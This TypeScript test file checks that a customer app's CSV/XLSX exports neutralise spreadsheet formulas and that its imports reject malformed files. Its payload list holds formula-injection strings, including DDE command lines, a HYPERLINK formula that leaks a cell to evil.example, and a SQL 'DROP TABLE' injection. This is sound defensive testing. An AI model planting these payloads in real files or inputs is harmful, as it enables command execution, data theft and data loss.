/**
 * Sheet attacks against a running host mode: formulas and the other separator in what agents
 * type, read back from /api/customers/export.csv and export.xlsx; sheets and workbooks that cannot
 * be read, or are not sheets at all, sent to customers.importCsv and customers.importPreview. Each
 * is refused with a clear error that changes nothing, or stored as typed and exported harmless.
 */
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { importCustomersCsv } from '../customers/csv-import';
import { exportCustomersXlsx } from '../customers/xlsx-export';
import { readXlsx } from '../customers/xlsx-read';
import { openZip } from '../shared/zip-read';
import { cellText } from '../customers/testing/sheet-arbitraries';
import { customerData, lenientCells, written } from '../customers/testing/sheets';
import { tempCore, type TestCore } from '../testing/fixtures';
import { createHostServer, type HostServer } from './host-server';

const TOKEN = 'test-token-0123456789';

/** Payloads from the formula-injection literature, and the other-separator case. */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A2, "Clique aqui")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+55 11 99999-8888',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  'ok;=1+1',
  'ok,=1+1',
  'ok;=1+1;',
  'ok\n=1+1',
  'ok;"=1+1"',
  "ok;'=1+1",
  "'); DROP TABLE customers;--",
];

let core: TestCore;
let server: HostServer;
let base: string;
beforeEach(async () => {
  core = tempCore();
  // Only the API is attacked here: no page is served.
  server = await createHostServer(core, { port: 0, token: TOKEN, staticDir: core.dir });
  base = `http://127.0.0.1:${server.port}`;
});
afterEach(async () => {
  await server.close();
  core.dispose();
});

const call = (path: string, init: RequestInit = {}) =>
  fetch(`${base}${path}`, {
    ...init,
    headers: { Authorization: `Bearer ${TOKEN}`, ...init.headers },
  });
const rpc = async (method: string, input: unknown) => {
  const response = await call(`/api/rpc/${method}`, {
    method: 'POST',
    body: JSON.stringify(input),
  });
  return {
    status: response.status,
    body: (await response.json()) as { id?: number; error: { code: string; message: string } },
  };
};

describe('CSV export over host mode', () => {
  it('never gives a spreadsheet a formula, whichever separator opens the file', async () => {
    const texts = [...PAYLOADS, ...fc.sample(cellText, { numRuns: 150, seed: 42 })];
    for (const [i, text] of texts.entries()) {
      // Cut by characters, not UTF-16 units: half an emoji is another test's business.
      const cut = (t: string, max: number) => [...t.trim()].slice(0, max).join('');
      const created = await rpc('customers.create', {
        displayName: cut(text, 200) || `vazio ${i}`,
        tags: [cut(`${i}${text}`, 50)],
      });
      expect(created.status, JSON.stringify(text)).toBe(200);
      const note = await rpc('customers.addNote', {
        customerId: created.body.id,
        body: `${i}:${text}`,
      });
      expect(note.status).toBe(200);
    }
    for (const query of ['delimiter=%2C', 'delimiter=%3B', 'language=pt-BR', 'language=en']) {
      const response = await call(`/api/customers/export.csv?${query}`);
      expect(response.status).toBe(200);
      const text = (await response.text()).replace(/^\uFEFF/, '');
      for (const separator of [';', ',', '\t']) {
        const formulas = lenientCells(text, separator).filter((c) => /^[=+\-@]/.test(c));
        expect(formulas, `${query}, read with ${JSON.stringify(separator)}`).toEqual([]);
      }
      // Read as written, the sheet gives every name back.
      const again = tempCore();
      try {
        const report = await importCustomersCsv(again, text);
        expect(report).toMatchObject({ created: texts.length, skipped: [], warnings: [] });
        const names = (c: TestCore) =>
          c.db.prepare('SELECT display_name AS n FROM customers ORDER BY n').all();
        expect(names(again)).toEqual(names(core));
      } finally {
        again.dispose();
      }
    }
  });
});

describe('CSV import over host mode', () => {
  const good = Array.from({ length: 5_000 }, (_, i) => `Pessoa ${i};+55 11 9${10_000_000 + i}`);

  it('refuses a sheet that cannot be read with 400, naming the line, and changes nothing', async () => {
    core.customers.editor.create({ displayName: 'Já cliente', phone: '+55 11 98888-0000' });
    const before = customerData(core.db);
    const sheets: [string, string][] = [
      [
        ['nome;telefone', ...good, '"Sem fim;+55 11 98888-1111'].join('\r\n'),
        'Line 5002: a quote opens here',
      ],
      [['nome;telefone', ...good, 'Ana\0;1'].join('\n'), 'Line 5002: holds a NUL character'],
      [['nome;telefone', 'Ana "A" Souza;1'].join('\n'), 'Line 2: has a quote inside a cell'],
      ['nome;telefone\n"Ana"x;1', 'Line 2: after the quote'],
      ['Maria;11999998888', 'The first line must name the columns'],
    ];
    for (const [csv, message] of sheets) {
      const answer = await rpc('customers.importCsv', { csv });
      expect(answer.status).toBe(400);
      expect(answer.body.error.code).toBe('bad_input');
      expect(answer.body.error.message).toContain(message);
    }
    expect(customerData(core.db)).toEqual(before);
  });

  it('says so in the language of the app', async () => {
    core.settings.update({ language: 'pt-BR' });
    const answer = await rpc('customers.importCsv', {
      csv: ['nome;telefone', ...good, '"Sem fim;1'].join('\n'),
    });
    expect(answer.body.error.message).toBe('Linha 5002: aspas abertas aqui nunca se fecham');
  });

  it('refuses what is not a sheet: no text, another type, a field too many', async () => {
    for (const input of [{}, { csv: '' }, { csv: 42 }, { csv: ['nome'] }, { csv: null }]) {
      const answer = await rpc('customers.importCsv', input);
      expect(answer.status, JSON.stringify(input)).toBe(400);
      expect(answer.body.error.code).toBe('bad_input');
    }
    expect(customerData(core.db).customers).toEqual([]);
  });

  it('stores formula-looking names as typed, and exports them harmless', async () => {
    // "ok;'=1+1" is how an export writes "ok;=1+1", and a sheet is read the same way.
    const typed = PAYLOADS.filter((p) => !p.includes(";'="));
    const csv = ['nome;tags', ...typed.map((p) => `"${p.replace(/"/g, '""')}";x`)].join('\r\n');
    const answer = await rpc('customers.importCsv', { csv });
    expect(answer).toMatchObject({ status: 200, body: { created: typed.length, skipped: [] } });
    const stored = core.db.prepare('SELECT display_name AS n FROM customers').all() as {
      n: string;
    }[];
    expect(stored.map((s) => s.n).sort()).toEqual(typed.map((p) => p.trim()).sort());
    const text = await (await call('/api/customers/export.csv?delimiter=%2C')).text();
    expect(lenientCells(text, ';').filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
  });
});

describe('XLSX import and export over host mode', () => {
  /** A real workbook: our own export of one customer, in base64 as the page sends it. */
  async function workbook(): Promise<string> {
    const source = tempCore();
    try {
      source.customers.editor.create({ displayName: 'Bia', phone: '+55 11 97777-1111' });
      const xlsx = await written((out) => exportCustomersXlsx(source, { filter: {} }, out));
      return xlsx.toString('base64');
    } finally {
      source.dispose();
    }
  }

  it('previews a workbook without storing anything, then imports it', async () => {
    const xlsx = await workbook();
    const before = customerData(core.db);
    const preview = await rpc('customers.importPreview', { xlsx });
    expect(preview).toMatchObject({ status: 200, body: { rows: 1, created: 1 } });
    expect(customerData(core.db)).toEqual(before);
    expect(await rpc('customers.importCsv', { xlsx })).toMatchObject({ body: { created: 1 } });
    expect(customerData(core.db).customers).toHaveLength(1);
  });

  it('refuses what is not one readable workbook with 400, and changes nothing', async () => {
    core.settings.update({ language: 'en' });
    const xlsx = await workbook();
    const bytes = Buffer.from(xlsx, 'base64');
    const damaged = Buffer.from(bytes);
    damaged.fill(0, 40, bytes.length - 100);
    const before = customerData(core.db);
    const inputs: [unknown, string][] = [
      [{ xlsx: 'não é base64!' }, ''],
      [{ xlsx, csv: 'nome\nAna' }, 'Send one sheet: a CSV or an XLSX'],
      [{}, 'Send one sheet: a CSV or an XLSX'],
      [{ xlsx: Buffer.from('nome;telefone\nAna;1').toString('base64') }, 'not a readable Excel'],
      [{ xlsx: bytes.subarray(0, 300).toString('base64') }, 'not a readable Excel'],
      [{ xlsx: damaged.toString('base64') }, 'not a readable Excel'],
    ];
    for (const method of ['customers.importPreview', 'customers.importCsv'])
      for (const [input, message] of inputs) {
        const answer = await rpc(method, input);
        expect(answer.status, `${method} ${JSON.stringify(input).slice(0, 60)}`).toBe(400);
        expect(answer.body.error.code).toBe('bad_input');
        expect(answer.body.error.message).toContain(message);
      }
    expect(customerData(core.db)).toEqual(before);
  });

  it('exports formula-looking names as text cells, and refuses a bad filter', async () => {
    for (const [i, payload] of PAYLOADS.entries())
      core.customers.editor.create({ displayName: `${payload} ${i}`.trim() });
    const response = await call('/api/customers/export.xlsx?language=en');
    expect(response.status).toBe(200);
    expect(response.headers.get('Content-Type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(response.headers.get('X-Total-Count')).toBe(String(PAYLOADS.length));
    const xlsx = Buffer.from(await response.arrayBuffer());
    const sheet = openZip(xlsx, { maxEntryBytes: 1024 * 1024 })
      .read('xl/worksheets/sheet1.xml')!
      .toString('utf8');
    expect(sheet).not.toMatch(/<f[ >]/);
    const names = [...readXlsx(xlsx)].slice(1).map((r) => r.cells[1]);
    expect(names.sort()).toEqual(PAYLOADS.map((p, i) => `${p} ${i}`.trim()).sort());

    const bad = await call('/api/customers/export.xlsx?channel=fax');
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { error: { code: string } }).error.code).toBe('bad_input');
  });
});
